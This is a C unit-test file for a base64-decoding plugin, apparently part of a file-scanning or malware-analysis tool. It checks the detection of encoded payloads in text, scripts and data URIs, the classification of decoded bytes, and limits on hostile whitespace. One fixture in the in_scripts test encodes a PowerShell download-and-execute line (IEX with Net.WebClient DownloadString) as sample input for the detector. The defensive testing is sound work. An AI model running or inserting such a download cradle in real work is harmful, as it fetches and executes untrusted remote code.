/* rooms: plugin_b64decode fakehost text base */
/*
 * tests of plugins/worker/decode: b64decode.c, known.c
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/slice.h"
#include "decode/known.h"
#include "fake_host.h"
#include "text/base64.h"

static struct fake_host *host;
static struct fake_scan last;

/* run - what is in a payload, into `last` */
static void run(struct assay_slice bytes)
{
	struct fake_payload told = { .bytes = bytes };

	fake_scan_free(&last);
	fake_host_scan(host, &told, &last);
	assert_int_equal(last.status, ASSAY_OK);
	assert_int_equal(json_array_size(json_object_get(last.result, "runs")), last.nchild);
}

/* row - of runs[] */
static const json_t *row(size_t i)
{
	return json_array_get(json_object_get(last.result, "runs"), i);
}

/* is - a child and its kind */
static void is(size_t i, const char *kind, struct assay_slice bytes)
{
	assert_true(i < last.nchild);
	assert_string_equal(json_string_value(json_object_get(row(i), "kind")), kind);
	assert_int_equal(json_integer_value(json_object_get(row(i), "size")), bytes.n);
	assert_true(assay_slice_eq(last.child[i].bytes, bytes));
}

/* encoded - base64 in lines of `width`, 0: one line */
static void encoded(struct assay_buf *out, struct assay_slice bytes, size_t width, const char *end)
{
	struct assay_buf flat;

	assay_buf_init(&flat, 1 << 20);
	assert_true(assay_base64_encode(bytes, &flat));
	for (size_t i = 0; i<flat.n; i += width> 0 ? width : flat.n) {
		if (i > 0)
			assay_buf_add_str(out, end);
		assay_buf_add_slice(out,
		    assay_slice_head(
			assay_slice(flat.p + i, flat.n - i), width > 0 ? width : flat.n));
	}
	assay_buf_release(&flat);
}

/* random_bytes - that are nothing */
static void random_bytes(char *p, size_t n)
{
	uint32_t seed = 7;

	for (size_t i = 0; i < n; i++) {
		seed = seed * 1664525u + 1013904223u;
		p[i] = (char)(seed >> 24);
	}
}

/* whole - a payload that is base64 and nothing else, as in stoQ */
static void whole(void **state)
{
	(void)state;
	run(ASSAY_SLICE_LIT("VGhpcyBpcyBhIHRlc3QgMTIz\n"));
	assert_int_equal(last.nchild, 1);
	is(0, "text", ASSAY_SLICE_LIT("This is a test 123"));
	assert_string_equal(last.child[0].place, "@0");
	run(ASSAY_SLICE_LIT("  \r\n/9DRAf/+3wEC7r+/rQ0=\r\n\r\n"));
	is(0, "data", ASSAY_SLICE_LIT("\xff\xd0\xd1\x01\xff\xfe\xdf\x01\x02\xee\xbf\xbf\xad\x0d"));
	run(ASSAY_SLICE_LIT("VABoAGkAcwAgAGkAcwAgADEANgA="));
	is(0, "text", ASSAY_SLICE_LIT("T\0h\0i\0s\0 \0i\0s\0 \0001\0006\0"));
	run(ASSAY_SLICE_LIT(""));
	assert_null(last.result);
}

/* lines - wrapped in several ways, indented, and where the first line stands behind other things */
static void lines(void **state)
{
	static const char *const ends[] = { "\n", "\r\n", "\r", "\n    ", " \n" };
	struct assay_buf text;
	char bytes[1026] = "MZ";

	(void)state;
	random_bytes(bytes + 2, sizeof(bytes) - 2);
	assay_buf_init(&text, 1 << 20);
	for (size_t i = 0; i < sizeof(ends) / sizeof(ends[0]); i++) {
		assay_buf_clear(&text);
		assay_buf_add_str(&text, "-----BEGIN THING-----\nnote\n");
		encoded(&text, assay_slice(bytes, sizeof(bytes)), 76, ends[i]);
		assay_buf_add_str(&text, "\nBest regards\n");
		run(assay_buf_slice(&text));
		assert_int_equal(last.nchild, 1);
		is(0, "program", assay_slice(bytes, sizeof(bytes)));
	}
	assay_buf_clear(&text);
	assay_buf_add_str(&text, "<a href=\"data:application/zip;base64,");
	encoded(&text, assay_slice(bytes, 24), 0, "");
	assay_buf_add_str(&text, "\n");
	encoded(&text, assay_slice(bytes + 24, 900), 60, "\n");
	assay_buf_add_str(&text, "\">");
	run(assay_buf_slice(&text));
	assert_int_equal(last.nchild, 1);
	is(0, "program", assay_slice(bytes, 924));
	assay_buf_release(&text);
}

/* in_scripts - one line between quotes; several of them */
static void in_scripts(void **state)
{
	struct assay_buf text;
	char zip[400] = "PK\3\4";

	(void)state;
	random_bytes(zip + 4, sizeof(zip) - 4);
	assay_buf_init(&text, 1 << 20);
	assay_buf_add_str(&text, "<script>var f = '");
	encoded(&text, assay_slice(zip, sizeof(zip)), 0, "");
	assay_buf_add_str(&text, "'; var g = \"");
	encoded(&text, ASSAY_SLICE_LIT("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
	    0, "");
	assay_buf_add_str(&text, "\";</script>");
	run(assay_buf_slice(&text));
	assert_int_equal(last.nchild, 2);
	is(0, "zip", assay_slice(zip, sizeof(zip)));
	is(1, "text", ASSAY_SLICE_LIT("IEX (New-Object Net.WebClient).DownloadString('http://x')"));
	assert_int_equal(json_integer_value(json_object_get(row(0), "offset")), 17);
	assay_buf_release(&text);
}

/* joined - strings of a program, put together; and lists, which are not */
static void joined(void **state)
{
	static const char *const joins[] = { "\" + \"", "\" +\r\n    \"", "\",\"", "\" & _\n\"",
		"\".\"" };
	struct assay_buf text;
	char zip[600] = "PK\3\4";

	(void)state;
	random_bytes(zip + 4, sizeof(zip) - 4);
	assay_buf_init(&text, 1 << 20);
	for (size_t i = 0; i < sizeof(joins) / sizeof(joins[0]); i++) {
		assay_buf_clear(&text);
		assay_buf_add_str(&text, "var f = \"");
		encoded(&text, assay_slice(zip, sizeof(zip)), 60, joins[i]);
		assay_buf_add_str(&text, "\"; var g = \"other\" + \"things\";");
		run(assay_buf_slice(&text));
		assert_int_equal(last.nchild, 1);
		is(0, "zip", assay_slice(zip, sizeof(zip)));
	}
	assay_buf_clear(&text);
	for (int i = 0; i < 3; i++)
		assay_buf_add_str(&text,
		    "\"VGhpcyBpcyBhIHRlc3QgMTIzIFRoaXMgaXMgYSB0ZXN0IDEyMyBUaGlzIGlzIGEgdGVzdCAxMjM0"
		    "\"; ");
	run(assay_buf_slice(&text));
	assert_int_equal(last.nchild, 3);
	assay_buf_release(&text);
}

/* not_believed - words, digests, links, and what is too short */
static void not_believed(void **state)
{
	struct assay_buf text;
	char bytes[4000];

	(void)state;
	run(ASSAY_SLICE_LIT("Thanks"));
	assert_null(last.result);
	run(ASSAY_SLICE_LIT("HelloWorldHelloWorld"));
	assert_null(last.result);
	run(ASSAY_SLICE_LIT("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
	assert_null(last.result);
	run(ASSAY_SLICE_LIT("short one: VGhpcyBpcyBhIHRlc3QgMTIz"));
	assert_null(last.result);
	random_bytes(bytes, sizeof(bytes));
	assay_buf_init(&text, 1 << 20);
	assay_buf_add_str(&text, "https://click.example/ls/click?upn=");
	encoded(&text, assay_slice(bytes, 600), 0, "");
	run(assay_buf_slice(&text));
	assert_null(last.result);
	/* So much of it is worth a look, whatever it is. */
	encoded(&text, assay_slice(bytes, sizeof(bytes)), 76, "\n");
	run(assay_buf_slice(&text));
	assert_int_equal(last.nchild, 1);
	assay_buf_release(&text);
}

/* bounds - of children; hostile white space and line ends in linear time */
static void bounds(void **state)
{
	static const char *const two[] = { "max=2", NULL };
	const struct assay_slice one = ASSAY_SLICE_LIT(
	    "VGhpcyBpcyBhIHRlc3QgMTIzIFRoaXMgaXMgYSB0ZXN0IDEyMyBUaGlzIGlzIGEgdGVzdCAxMjM= . ");
	struct fake_host *shared = host;
	struct assay_buf text;
	struct assay_err err;

	(void)state;
	assay_buf_init(&text, 32 << 20);
	for (int i = 0; i < 3; i++)
		assay_buf_add_slice(&text, one);
	assert_int_equal(fake_host_open(&assay_plugin, two, NULL, &host, &err), ASSAY_OK);
	run(assay_buf_slice(&text));
	assert_int_equal(last.nchild, 2);
	assert_int_equal(json_array_size(last.limits), 1);
	fake_scan_free(&last);
	memset(&last, 0, sizeof(last));
	fake_host_close(&host);
	host = shared;
	assay_buf_clear(&text);
	for (int i = 0; i < 4 << 20; i++)
		assay_buf_add_char(&text, ' ');
	for (int i = 0; i < 1 << 20; i++)
		assay_buf_add_str(&text, i % 3 > 0 ? "a\n  \n" : "=b\n\n\n");
	run(assay_buf_slice(&text));
	assert_null(last.result);
	assay_buf_release(&text);
}

/* kinds - what decoded bytes are recognised by */
static void kinds(void **state)
{
	(void)state;
	assert_string_equal(assay_known_kind(ASSAY_SLICE_LIT("%PDF-1.4\0\1\2")), "pdf");
	assert_string_equal(assay_known_kind(ASSAY_SLICE_LIT("\x7f"
							     "ELF\2\1")),
	    "elf");
	assert_string_equal(assay_known_kind(ASSAY_SLICE_LIT("\xc3\xa9t\xc3\xa9\n")), "text");
	assert_string_equal(assay_known_kind(ASSAY_SLICE_LIT("a\0b\0")), "text");
	assert_null(assay_known_kind(ASSAY_SLICE_LIT("a\0b\1")));
	assert_null(assay_known_kind(ASSAY_SLICE_LIT("\xff\xfe\1")));
	assert_null(assay_known_kind(ASSAY_SLICE_LIT("")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(whole),
		cmocka_unit_test(lines),
		cmocka_unit_test(in_scripts),
		cmocka_unit_test(joined),
		cmocka_unit_test(not_believed),
		cmocka_unit_test(bounds),
		cmocka_unit_test(kinds),
	};
	struct assay_err err;
	int failed;

	if (fake_host_open(&assay_plugin, NULL, NULL, &host, &err) != ASSAY_OK)
		return 1;
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	fake_scan_free(&last);
	fake_host_close(&host);
	return failed;
}
